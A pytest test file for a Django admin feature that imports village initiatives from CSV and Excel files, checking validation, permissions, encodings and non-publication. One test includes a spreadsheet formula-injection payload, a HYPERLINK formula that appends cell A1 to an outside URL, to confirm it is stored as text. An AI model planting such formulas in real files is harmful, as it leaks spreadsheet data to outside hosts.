"""Administrators import initiatives from a spreadsheet: preview first, every row checked,
nothing imported while one row has a mistake, every imported initiative ``known``."""

import csv
import io
from contextlib import contextmanager
from dataclasses import dataclass

import openpyxl
import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.staticfiles import finders
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse

from initiatives.models import Initiative, InitiativeKind, Ownership, Tag
from kompas.choices import InitiativeStatus
from tests.factories import InitiativeFactory, KernFactory, square

pytestmark = pytest.mark.django_db

IMPORT_URL = "admin:initiatives_initiative_import"
CONFIRM_URL = "admin:initiatives_initiative_process_import"
CSV_FORMAT, XLSX_FORMAT = "0", "1"
QUERIES_PER_ROW = 50
HEADINGS = [
    "naam",
    "kern",
    "soorten",
    "beschrijving",
    "biedt",
    "biedt toelichting",
    "zoekt",
    "zoekt toelichting",
    "ideeën op zolder",
    "eigenaarschap",
    "website",
    "contact",
    "breedtegraad",
    "lengtegraad",
]


@pytest.fixture
def witteloo():
    """A village whose boundary holds (6.561, 52.722), the place of the example file."""
    return KernFactory(name="Witteloo", slug="witteloo", boundary=square(6.55, 52.71))


@dataclass
class QueryCount:
    count: int = 0


@contextmanager
def counted_queries():
    """How many queries run meanwhile (Django's own query log keeps only the last 9000)."""
    counted = QueryCount()

    def count(execute, sql, params, many, context):
        counted.count += 1
        return execute(sql, params, many, context)

    with connection.execute_wrapper(count):
        yield counted


def row(**cells) -> dict:
    return {"naam": "Buurtmoestuin", **cells}


def csv_file(rows, headings=HEADINGS, delimiter=",", encoding="utf-8") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(headings)
    writer.writerows([cells.get(heading, "") for heading in headings] for cells in rows)
    return out.getvalue().encode(encoding)


def xlsx_file(rows, headings=HEADINGS) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(headings)
    for cells in rows:
        sheet.append([cells.get(heading) for heading in headings])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def preview(client, content: bytes, name="initiatieven.csv", file_format=CSV_FORMAT):
    upload = SimpleUploadedFile(name, content)
    return client.post(
        reverse(IMPORT_URL), {"import_file": upload, "format": file_format, "resource": "0"}
    )


def confirm(client, previewed):
    form = previewed.context["confirm_form"]
    return client.post(reverse(CONFIRM_URL), {**form.initial, "confirm": "1"})


def import_file(client, content: bytes, **kwargs):
    previewed = preview(client, content, **kwargs)
    assert previewed.status_code == 200
    assert previewed.context.get("confirm_form"), previewed.content.decode()
    return confirm(client, previewed)


def test_a_csv_file_is_imported_after_preview_and_confirm(admin_client, make_user, in_english):
    kern = KernFactory(name="Holtwolde", slug="holtwolde")
    InitiativeKind.objects.create(name="Moestuin", slug="moestuin")
    Tag.objects.create(name="Vrijwilligers", slug="vrijwilligers")
    content = csv_file(
        [
            row(
                kern="holtwolde",
                soorten="moestuin, Repair café",
                beschrijving="We tuinieren samen.",
                biedt="gereedschap",
                zoekt="vrijwilligers, een regenton",
                eigenaarschap="De gemeenschap is eigenaar",
                website="www.example.nl/moestuin",
                contact="tuin@example.nl",
            ),
            row(naam="Dorpskoor", kern="HOLTWOLDE", eigenaarschap="3"),
        ]
    )

    previewed = preview(admin_client, content)

    assert previewed.status_code == 200
    page = previewed.content.decode()
    assert "2 new initiatives will be imported" in page
    assert "Repair café" in page
    assert not Initiative.objects.exists()

    confirmed = confirm(admin_client, previewed)

    assert confirmed.status_code == 302
    assert confirmed.url == reverse("admin:initiatives_initiative_changelist")
    garden = Initiative.objects.get(name="Buurtmoestuin")
    choir = Initiative.objects.get(name="Dorpskoor")
    admin = make_user("admin")
    for initiative in (garden, choir):
        assert initiative.status == InitiativeStatus.KNOWN
        assert initiative.kern == kern
        assert initiative.created_by == admin
        assert initiative.description_by_municipality
        assert not initiative.contact_consent
        assert initiative.history.latest().history_user == admin
    assert garden.ownership == Ownership.COMMUNITY
    assert choir.ownership == Ownership.MUNICIPALITY_WITH_RESIDENTS
    assert garden.website == "https://www.example.nl/moestuin"
    assert sorted(garden.kinds.values_list("name", flat=True)) == ["Moestuin", "Repair café"]
    assert InitiativeKind.objects.filter(name__iexact="moestuin").count() == 1
    assert list(garden.offers.values_list("name", flat=True)) == ["gereedschap"]
    assert sorted(garden.wishes.values_list("name", flat=True)) == [
        "Vrijwilligers",
        "een regenton",
    ]
    assert Tag.objects.filter(name__iexact="vrijwilligers").count() == 1
    assert LogEntry.objects.filter(user=admin, object_id=str(garden.pk)).exists()


def test_an_xlsx_workbook_is_imported(admin_client, witteloo):
    content = xlsx_file(
        [
            {
                "naam": "Jeu de boules Witteloo",
                "kern": "Witteloo",
                "soorten": "sportclub",
                "eigenaarschap": 2,
                "breedtegraad": 52.722,
                "lengtegraad": 6.561,
                "contact": "0612345678",
            },
            {},
            {"naam": "Leesclub", "ideeën op zolder": "Een boekenkast in het bushokje."},
            # Workbooks often carry empty rows below the data.
            *[{}] * 5,
        ]
    )

    response = import_file(admin_client, content, name="lijst.xlsx", file_format=XLSX_FORMAT)

    assert response.status_code == 302
    boules = Initiative.objects.get(name="Jeu de boules Witteloo")
    assert boules.status == InitiativeStatus.KNOWN
    assert boules.kern == witteloo
    assert boules.ownership == Ownership.COMMUNITY_WITH_SUPPORT
    assert (round(boules.location.y, 6), round(boules.location.x, 6)) == (52.722, 6.561)
    assert boules.contact == "0612345678"
    assert [kind.name for kind in boules.kinds.all()] == ["sportclub"]
    reading = Initiative.objects.get(name="Leesclub")
    assert reading.kern is None
    assert reading.ideas == "Een boekenkast in het bushokje."
    assert reading.status == InitiativeStatus.KNOWN


def test_the_example_file_imports_as_it_is(admin_client, witteloo):
    with open(finders.find("examples/initiatieven.csv"), "rb") as example:
        content = example.read()

    response = import_file(admin_client, content)

    assert response.status_code == 302
    garden = Initiative.objects.get()
    assert garden.name == "Buurtmoestuin De Wilg"
    assert garden.kern == witteloo
    assert garden.ownership == Ownership.COMMUNITY
    assert garden.status == InitiativeStatus.KNOWN
    assert garden.offers_text and garden.wishes_text and garden.ideas
    assert (round(garden.location.y, 6), round(garden.location.x, 6)) == (52.722, 6.561)


def test_the_upload_page_explains_the_columns_and_links_the_example(admin_client, in_english):
    response = admin_client.get(reverse(IMPORT_URL))

    assert response.status_code == 200
    page = response.content.decode()
    assert "examples/initiatieven.csv" in page
    assert "ideeën op zolder" in page
    assert "1 = The community owns it" in page
    assert "<script>" not in page
    changelist = admin_client.get(reverse("admin:initiatives_initiative_changelist"))
    assert reverse(IMPORT_URL) in changelist.content.decode()


def test_every_row_with_a_mistake_is_named_and_nothing_is_imported(admin_client, in_english):
    kern = KernFactory(name="Holtwolde", slug="holtwolde", boundary=square(6.5, 52.83))
    InitiativeFactory(name="Dorpskoor", kern=kern)
    content = csv_file(
        [
            row(naam="Goed initiatief", soorten="gloednieuwe soort", biedt="gloednieuw talent"),
            row(naam="Onbekende plek", kern="Atlantis"),
            row(naam="Raar eigendom", eigenaarschap="van iedereen"),
            row(naam="Halve plek", kern="Holtwolde", breedtegraad="52.84"),
            row(naam="Verre plek", breedtegraad="40.0", lengtegraad="3.0"),
            row(naam="Geen getal", breedtegraad="noord", lengtegraad="6.51"),
            row(naam="", beschrijving="Zonder naam"),
            row(naam="dorpskoor", kern="holtwolde"),
        ]
    )

    previewed = preview(admin_client, content)

    assert previewed.status_code == 200
    assert "confirm_form" not in previewed.context
    page = previewed.content.decode()
    assert "Some rows need a change" in page
    assert "Kompas has no village or district “Atlantis”" in page
    assert "“van iedereen” is not a type of ownership" in page
    assert "Fill in both latitude and longitude, or leave both empty." in page
    assert "This place lies outside" in page
    assert "Write the latitude as a number" in page
    assert "Give your initiative a name." in page
    assert "There is already an initiative called “dorpskoor” in Holtwolde." in page
    rows_in_error = [invalid.number + 1 for invalid in previewed.context["result"].invalid_rows]
    assert rows_in_error == [3, 4, 5, 6, 7, 8, 9]
    assert "Traceback" not in page
    assert list(Initiative.objects.values_list("name", flat=True)) == ["Dorpskoor"]
    assert not InitiativeKind.objects.filter(name="gloednieuwe soort").exists()
    assert not Tag.objects.filter(name="gloednieuw talent").exists()


def test_rows_keep_their_spreadsheet_numbers_past_blank_rows(admin_client, in_english):
    content = (
        csv_file([row(naam="Koor"), {}, row(naam="", beschrijving="Zonder naam")]) + b",,,\n\n"
    )

    previewed = preview(admin_client, content)

    assert [invalid.number + 1 for invalid in previewed.context["result"].invalid_rows] == [4]
    assert previewed.context["result"].totals["new"] == 1


def test_confirming_imports_nothing_when_a_row_fails_by_then(admin_client, in_english):
    kern = KernFactory(name="Holtwolde", slug="holtwolde")
    content = csv_file(
        [row(naam="Eerste", kern="holtwolde"), row(naam="Dorpskoor", kern="holtwolde")]
    )
    previewed = preview(admin_client, content)
    # Someone enters the second one between the preview and the confirmation.
    InitiativeFactory(name="Dorpskoor", kern=kern)

    response = confirm(admin_client, previewed)

    assert response.status_code == 302
    assert response.url == reverse(IMPORT_URL)
    assert not Initiative.objects.filter(name="Eerste").exists()
    assert Initiative.objects.count() == 1
    assert "Nothing was imported" in admin_client.get(response.url).content.decode()


def test_confirming_twice_imports_once(admin_client, in_english):
    previewed = preview(admin_client, csv_file([row()]))
    confirm(admin_client, previewed)

    again = confirm(admin_client, previewed)

    assert again.status_code == 302
    assert again.url == reverse(IMPORT_URL)
    assert "has already been imported" in admin_client.get(again.url).content.decode()
    assert Initiative.objects.count() == 1


def test_a_file_with_too_many_rows_is_refused(admin_client, in_english, monkeypatch):
    monkeypatch.setattr("initiatives.resources.MAX_ROWS", 2)

    previewed = preview(admin_client, csv_file([row(naam=f"Koor {n}") for n in range(3)]))

    assert "This file has 3 rows; import at most 2 at a time." in previewed.content.decode()
    assert "confirm_form" not in previewed.context
    assert not Initiative.objects.exists()


@pytest.mark.parametrize("role", ["resident", "council", "staff"])
def test_only_administrators_reach_the_import(client_as, role):
    client = client_as(role)

    page = client.get(reverse(IMPORT_URL))
    posted = preview(client, csv_file([row()]))
    confirmed = client.post(
        reverse(CONFIRM_URL),
        {"import_file_name": "x", "original_file_name": "x.csv", "format": CSV_FORMAT},
    )

    for response in (page, posted, confirmed):
        assert response.status_code == 302
        assert response.url.startswith(reverse("admin:login"))
    assert not Initiative.objects.exists()


def test_formula_like_cells_are_stored_as_text(admin_client):
    hyperlink = '=HYPERLINK("http://example.org/?x="&A1,"Klik hier")'
    content = csv_file(
        [
            row(naam="=1+1 Buurtclub", beschrijving=hyperlink, contact="@buurtclub"),
            # Our own CSV downloads put an apostrophe before such a text; it comes off again.
            row(naam="Kookclub", beschrijving="'=SOM(A1:A3)"),
        ]
    )

    import_file(admin_client, content)

    club = Initiative.objects.get(name="=1+1 Buurtclub")
    assert club.description == hyperlink
    assert club.contact == "@buurtclub"
    assert Initiative.objects.get(name="Kookclub").description == "=SOM(A1:A3)"


def test_a_large_file_takes_a_bounded_number_of_queries_per_row(admin_client):
    KernFactory(name="Holtwolde", slug="holtwolde")
    kinds_before = InitiativeKind.objects.count()
    rows = [
        row(
            naam=f"Initiatief {number}",
            kern="Holtwolde",
            soorten=f"soort {number % 7}",
            eigenaarschap=str(number % 4 + 1),
        )
        for number in range(300)
    ]

    with counted_queries() as previewing:
        previewed = preview(admin_client, csv_file(rows))
    assert previewed.context.get("confirm_form")
    with counted_queries() as confirming:
        confirm(admin_client, previewed)

    assert Initiative.objects.filter(status=InitiativeStatus.KNOWN).count() == 300
    assert InitiativeKind.objects.count() == kinds_before + 7
    # As many queries as entering each initiative by hand, give or take: no more.
    for queries in (previewing, confirming):
        assert 300 < queries.count < 300 * QUERIES_PER_ROW, queries.count


def test_a_csv_from_dutch_excel_in_windows_1252_with_semicolons_imports(admin_client, witteloo):
    content = csv_file(
        [
            row(
                naam="Repair Café Witteloo",
                kern="witteloo",
                soorten="repair café",
                beschrijving="Reparaties à la minute, €2 per keer.",
                breedtegraad="52,722",
                lengtegraad="6,561",
            )
        ],
        delimiter=";",
        encoding="cp1252",
    )

    import_file(admin_client, content)

    cafe = Initiative.objects.get()
    assert cafe.name == "Repair Café Witteloo"
    assert cafe.description == "Reparaties à la minute, €2 per keer."
    assert [kind.name for kind in cafe.kinds.all()] == ["repair café"]
    assert round(cafe.location.y, 6) == 52.722


def test_headings_are_matched_loosely_and_unknown_columns_are_named(admin_client, in_english):
    content = csv_file(
        [{"Naam ": "Zangclub", "IDEEEN OP ZOLDER": "Een musical", "status": "public"}],
        headings=["Naam ", "IDEEEN OP ZOLDER", "status", "opmerking"],
    )

    previewed = preview(admin_client, content)

    page = previewed.content.decode()
    assert "These columns are not imported" in page
    assert "status, opmerking" in page
    confirm(admin_client, previewed)
    club = Initiative.objects.get()
    assert club.ideas == "Een musical"
    assert club.status == InitiativeStatus.KNOWN


@pytest.mark.parametrize(
    ("headings", "message"),
    [
        (["name", "village"], "The first row must hold the column headings"),
        (["naam", "Naam"], "The column “naam” appears twice."),
    ],
)
def test_a_file_without_the_right_headings_is_refused(admin_client, in_english, headings, message):
    previewed = preview(admin_client, csv_file([{}], headings=headings) + b"Koor,Koor\n")

    assert "confirm_form" not in previewed.context
    page = previewed.content.decode()
    assert "This file cannot be imported" in page
    assert message in page
    assert "Traceback" not in page
    assert not Initiative.objects.exists()


@pytest.mark.parametrize(
    ("content", "file_format", "message"),
    [
        (b"naam\nKoor\n", XLSX_FORMAT, "This file is not an Excel workbook"),
        (xlsx_file([row()]), CSV_FORMAT, "This file is an Excel workbook"),
        (b"naam\n\x81\x8d\x8f\n", CSV_FORMAT, "This file could not be read as text"),
        (b"PK\x03\x04 not really a workbook", XLSX_FORMAT, "This Excel workbook could not be read"),
        (b"naam\nKoor,extra\n", CSV_FORMAT, "Row 2 has more cells than the first row"),
    ],
)
def test_a_file_that_cannot_be_read_gets_a_clear_message(
    admin_client, in_english, content, file_format, message
):
    previewed = preview(admin_client, content, file_format=file_format)

    assert previewed.status_code == 200
    assert message in previewed.content.decode()
    assert "confirm_form" not in previewed.context


def test_the_import_reports_in_dutch_what_it_did(admin_client, witteloo):
    confirmed = import_file(admin_client, csv_file([row(kern="witteloo")]))

    page = admin_client.get(confirmed.url).content.decode()
    assert "Import finished" not in page
    assert "Import klaar voor initiatieven: 1 nieuw, 0 bijgewerkt" in page


# --- An import never publishes ---------------------------------------------------------
# Going on the public map is the members' choice, recorded by the service that makes it.
# An import only adds initiatives, each ``known`` and without members: an initiative
# already in Kompas keeps its status, whatever the file says about it.


def test_an_import_neither_publishes_nor_changes_what_is_there(admin_client, admin_user):
    existing = InitiativeFactory(name="Soepgroep", status=InitiativeStatus.KNOWN, kern=None)
    public = InitiativeFactory(name="Moestuin", status=InitiativeStatus.PUBLIC, kern=None)
    headings = [*HEADINGS, "id", "status", "gepubliceerd door", "contact toestemming"]
    content = csv_file(
        [
            {
                **row(naam="Zangclub", id=str(existing.pk), status="public"),
                "contact": "06-12345678",
                "gepubliceerd door": str(admin_user.pk),
                "contact toestemming": "ja",
            },
            row(naam="Breiclub", id=str(public.pk), status="tip"),
        ],
        headings=headings,
    )

    response = import_file(admin_client, content)

    assert response.status_code == 302
    existing.refresh_from_db()
    public.refresh_from_db()
    assert (existing.name, existing.status) == ("Soepgroep", InitiativeStatus.KNOWN)
    assert (public.name, public.status) == ("Moestuin", InitiativeStatus.PUBLIC)
    for name in ("Zangclub", "Breiclub"):
        added = Initiative.objects.get(name=name)
        assert added.status == InitiativeStatus.KNOWN
        assert (added.published_at, added.published_by) == (None, None)
        assert not added.contact_consent
        assert not added.memberships.exists()
        assert added.created_by == admin_user
        assert added.history.earliest().history_user == admin_user
